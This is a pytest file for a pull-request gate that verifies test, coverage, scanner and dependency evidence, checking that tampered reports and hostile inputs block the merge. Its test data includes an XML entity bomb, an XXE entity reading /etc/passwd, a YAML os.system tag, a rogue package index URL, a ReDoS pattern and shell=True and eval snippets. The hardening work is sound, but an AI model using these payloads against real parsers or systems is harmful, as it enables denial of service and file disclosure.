"""Reports that a change brings along or bends (T5 to T13, T19 to T24), from the file to what stands on GitHub."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.support.fakes import write
from tests.support.github_server import Hub
from tests.support.hostile_jobs import assert_one_answer, conclusions, states, stop_time
from tests.support.pull_job import PullJob, Step
from tests.support.repos import AUDIT, COVERAGE, JUNIT, POLICY, PYTHON
from tests.support.repositories import git

CASE = '<testcase classname="tests.test_money" name="test_{}"{}'
SKIPPED = CASE.format("a", "><skipped/></testcase>")
ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">{}]><testsuite><testcase name="&{};"/></testsuite>'
LAUGHS = ENTITY.format(
    "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)), "i"
)
OUTSIDE = ENTITY.format('<!ENTITY b SYSTEM "file:///etc/passwd">', "b")


class Bent:
    """A pull request one of whose reports or files is bent. `facts` is the JSON report of the last run."""

    def __init__(self, job: PullJob) -> None:
        self.job = job
        self.facts: dict[str, Any] = {}

    def run(self, only: str, files: dict[str, str | bytes | None]) -> Step:
        """Put these files beside the checkout and run the action on one kind of evidence."""
        for name, content in files.items():
            path = self.job.workspace / name
            path.unlink(missing_ok=True)
            if content is not None:
                write(self.job.workspace, {name: content})
        step = self.job.run(INPUT_ONLY=only)
        path = self.job.workspace / (step.outputs["report_json"] or "-")
        self.facts = json.loads(path.read_text()) if path.is_file() else {}
        return step

    def outcome(self, criterion: str) -> str:
        return str({item["id"]: item["outcome"] for item in self.facts["criteria"]}[criterion])

    def blocked(self, step: Step) -> bool:
        """Whether the exit code and everything on GitHub say no."""
        assert_one_answer(self.job.hub, good=False)
        return (
            step.code == 1 and states(self.job.hub)[-1] == "failure" and set(conclusions(self.job.hub)) == {"failure"}
        )


@pytest.fixture
def bent(tmp_path: Path, hub: Hub, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Bent:
    stop_time(monkeypatch)
    wanted = ("sast.no-high", "coverage.lines", "coverage.patch", "dependencies.audited")
    strict = "".join(f"  {name}: {{level: must}}\n" for name in wanted)
    policy = POLICY.replace("criteria:\n", f"criteria:\n{strict}")
    return Bent(PullJob(tmp_path, hub, capsys, policy=policy, change={"notes.txt": "x\n"}))


def junit(*cases: str, attributes: str = "") -> str:
    return f"<testsuites><testsuite name='pytest' {attributes}>{''.join(cases)}</testsuite></testsuites>"


@pytest.mark.parametrize(
    "report",
    [
        junit(),
        junit(SKIPPED, SKIPPED.replace("test_a", "test_b")),
        junit(CASE.format("a", "><failure/></testcase>"), attributes="tests='1' failures='0' errors='0'"),
        junit(CASE.format("a", "><error/></testcase>"), CASE.format("b", "/>")),
        junit(attributes="tests='1000' failures='0' errors='0' skipped='0'"),
        JUNIT[: len(JUNIT) // 2],
        "",
        "{}",
        "\0" * 100,
    ],
    ids=["none", "skipped", "failed", "error", "promised", "half", "empty", "other", "nothing"],
)
def test_t6_tests_that_did_not_run_or_failed_pass_nothing(bent: Bent, report: str) -> None:
    assert bent.blocked(bent.run("tests", {"out/junit.xml": report}))
    assert bent.outcome("tests.passed") != "pass"


def test_t5_a_report_that_the_change_commits_is_no_evidence(bent: Bent) -> None:
    job = bent.job
    git(job.workspace, "add", "--force", "out/junit.xml")
    job.change({})
    git(job.workspace, "add", "--force", "out/junit.xml")
    git(job.workspace, "commit", "--quiet", "-m", "bring it along")
    job.head = git(job.workspace, "rev-parse", "HEAD").strip()
    job.repository.push(job.workspace, "topic", "topic")
    git(job.workspace, "rm", "--quiet", "--cached", "out/junit.xml")
    assert bent.blocked(bent.run("tests", {}))
    assert bent.outcome("tests.passed") == "no_evidence"


def test_t5_a_bundle_that_the_change_commits_is_no_evidence(bent: Bent) -> None:
    job = bent.job
    assert job.run(INPUT_COMMAND="collect", INPUT_BUNDLE="bundles/a", INPUT_ONLY="tests").code == 0
    job.change({})
    assert "bundles/a/manifest.json" in git(job.workspace, "ls-files", "bundles")
    (job.workspace / "out/junit.xml").unlink()
    for folder in ("bundles", "bundles/a"):
        step = job.run(INPUT_COMMAND="publish", INPUT_BUNDLE=folder, INPUT_ONLY="tests")
        assert (step.code, step.outputs["verdict"]) == (1, "no_go")
        assert "tracked in git" in step.log
        assert bent.blocked(step)
        job.attempt += 1
        job.repository.runs[job.run_id].attempt += 1


@pytest.mark.parametrize("rate", ["NaN", "inf", "-1", "2", "1e400", "0x1", "１", ""])
def test_t7_a_rate_that_a_report_promises_is_not_read(bent: Bent, rate: str) -> None:
    promised = COVERAGE.replace('line-rate="1"', f'line-rate="{rate}"').replace('hits="1"', 'hits="0"')
    assert bent.blocked(bent.run("coverage", {"out/coverage.xml": promised}))
    assert bent.outcome("coverage.lines") != "pass"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (COVERAGE[COVERAGE.index("<packages>") : COVERAGE.index("</packages>")], "<packages>"),
        ('filename="ledger/money.py"', 'filename="elsewhere/money.py"'),
        ('filename="ledger/money.py"', 'filename="/etc/passwd"'),
        ('<line number="1" hits="1"/>', '<line number="1" hits="-1"/>'),
        ('<line number="1" hits="1"/>', '<line number="1" hits="9e99"/>'),
    ],
)
def test_t7_coverage_of_nothing_or_of_something_else_is_none(bent: Bent, old: str, new: str) -> None:
    assert old in COVERAGE
    assert bent.blocked(bent.run("coverage", {"out/coverage.xml": COVERAGE.replace(old, new)}))
    assert bent.outcome("coverage.lines") != "pass"


def test_t7_a_file_that_the_report_leaves_out_is_not_covered(bent: Bent) -> None:
    """`omit` in the change's .coveragerc: what the change adds is not in the report at all."""
    bent.job.change({"ledger/large.py": "".join(f"def f{n}():\n    return {n}\n" for n in range(60))})
    step = bent.run("coverage", {})
    assert bent.outcome("coverage.patch") == "fail"
    assert bent.blocked(step)


@pytest.mark.parametrize("text", ["def broken(:\n", "\0\0\0", "(" * 3000, "# -*- coding: rot13 -*-\nx = 1\n"])
def test_t8_a_file_that_the_scanner_cannot_read_is_not_clean(bent: Bent, text: str) -> None:
    bent.job.change({"ledger/broken.py": text})
    step = bent.run("sast", {})
    assert bent.outcome("sast.no-high") != "pass"
    assert bent.blocked(step)


@pytest.mark.parametrize(
    "audit",
    [
        {"dependencies": [], "fixes": []},
        {"dependencies": [{"name": "idna", "skip_reason": "not on PyPI"}], "fixes": []},
        {"dependencies": [{"name": "other", "version": "1", "vulns": []}], "fixes": []},
        {"dependencies": [{"name": "idna", "version": "3.15"}], "fixes": []},
        {"dependencies": [{"name": "idna", "version": "3.14", "vulns": []}], "fixes": []},
        [],
    ],
)
def test_t9_a_dependency_that_nobody_looked_up_is_not_known_to_be_sound(bent: Bent, audit: object) -> None:
    step = bent.run("dependencies", {"out/audit.json": json.dumps(audit)})
    assert bent.outcome("dependencies.audited") != "pass"
    assert bent.blocked(step)


@pytest.mark.parametrize(
    "text",
    [
        AUDIT.replace("[]", "NaN", 1),
        AUDIT[:-1] + ', "dependencies": []}',
        '{"dependencies": ' + "[" * 100_000,
        f'{{"dependencies": [], "x": {"9" * 50_000}}}',
        AUDIT.replace("idna", "\\ud800"),
    ],
    ids=["NaN", "twice", "deep", "digits", "surrogate"],
)
def test_t21_json_that_wants_more_than_to_be_read_is_no_evidence(bent: Bent, text: str) -> None:
    step = bent.run("dependencies", {"out/audit.json": text})
    assert bent.outcome("dependencies.audited") != "pass"
    assert bent.blocked(step)


@pytest.mark.parametrize(
    "report",
    [LAUGHS, OUTSIDE, "<a>" * 100_000],
    ids=["laughs", "outside", "deep"],
)
def test_t19_xml_that_wants_more_than_to_be_read_is_no_evidence(bent: Bent, report: str) -> None:
    step = bent.run("tests", {"out/junit.xml": report})
    assert bent.blocked(step)
    assert "root:" not in step.log + step.summary


def test_t10_what_the_change_wants_to_have_installed_is_not_run(bent: Bent, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    setup = f"open({str(canary)!r}, 'w')\nfrom setuptools import setup\nsetup(name='x')\n"
    wanted = "idna==3.15\n./\n-e .\n--index-url https://evil.invalid/simple\n-r more.txt\n"
    audited = POLICY.replace("audit: false, ", "")
    bent.job.change({"setup.py": setup, "requirements.txt": wanted, "more.txt": "./\n", ".gate/policy.yml": audited})
    step = bent.run("dependencies", {})
    assert bent.blocked(step)
    assert not canary.exists()


@pytest.mark.parametrize(
    "name", [".bandit", "pyproject.toml", "setup.cfg", "tox.ini", "bandit.yaml", ".banditrc", "ledger/.bandit"]
)
def test_t11_a_configuration_of_the_change_does_not_silence_a_scanner(bent: Bent, name: str) -> None:
    text = "[bandit]\nskips = B602\nexclude = ledger\n"
    text = "[tool.bandit]\nskips = ['B602']\nexclude_dirs = ['ledger']\n" if name.endswith("toml") else text
    shell = "import subprocess\n\n\ndef run(command):\n    return subprocess.call(command, shell=True)\n"
    bent.job.change({name: text, "ledger/shell.py": shell})
    step = bent.run("sast", {})
    assert bent.outcome("sast.no-high") == "fail"
    assert bent.blocked(step)


def test_t12_what_a_comment_silences_is_counted(bent: Bent) -> None:
    shell = "import subprocess\n\n\ndef run(command):\n    return subprocess.call(command, shell=True)  # nosec\n"
    bent.job.change({"ledger/shell.py": shell})
    bent.run("sast", {})
    (sast,) = [item for item in bent.facts["evidence"] if item["kind"] == "sast"]
    assert sast["facts"]["suppressed"] == 1


def test_t13_code_that_was_not_looked_at_is_told(bent: Bent) -> None:
    """A submodule that nobody fetched, and a pointer in place of a file."""
    job = bent.job
    git(job.workspace, "update-index", "--add", "--cacheinfo", f"160000,{job.head},ledger/hidden")
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 9\n"
    job.change({"ledger/pointer.py": pointer})
    step = bent.run("sast", {})
    (sast,) = [item for item in bent.facts["evidence"] if item["kind"] == "sast"]
    assert sast["gaps"]
    assert bent.outcome("sast.no-high") != "pass"
    assert bent.blocked(step)


def test_t24_a_pattern_that_a_change_proposes_does_not_hold_the_gate_up(bent: Bent) -> None:
    evil = "properties: {log_level: {pattern: '^(a+)+$'}}"
    policy = POLICY.replace("properties: {log_level: {enum: [INFO, WARNING]}}", evil)
    assert evil in policy
    bent.job.change({".gate/policy.yml": policy, "config/production.yaml": f"log_level: {'a' * 60}!\n"})
    step = bent.run("files", {})
    assert bent.blocked(step)
    assert bent.facts["proposal"]["verdict"] == "no_go"


def test_t20_yaml_that_wants_more_than_to_be_read_is_a_mistake(bent: Bent) -> None:
    bombs = {
        "alias": "a: &a [x]\nb: *a\n",
        "deep": "[" * 20_000,
        "tag": "!!python/object/apply:os.system [id]\n",
        "twice": "version: 1\nversion: 1\n",
    }
    for text in bombs.values():
        bent.job.change({"config/production.yaml": text, ".gate/policy.yml": text})
        step = bent.run("files", {})
        assert bent.blocked(step)
        assert bent.facts["proposal"]["mistakes"]
        bent.job.new_run()
        bent.job.repository.checks.clear()


def test_t5_evidence_is_of_the_files_that_lie_there_and_not_of_a_cache(bent: Bent) -> None:
    bent.job.change({"ledger/money.py": PYTHON + "\n\ndef evil(text):\n    return eval(text)\n"})
    first = bent.run("sast", {})
    second = bent.run("sast", {})
    assert first.outputs["verdict"] == second.outputs["verdict"]
    (sast,) = [item for item in bent.facts["evidence"] if item["kind"] == "sast"]
    assert all(source["how"] == "produced" for source in sast["sources"])
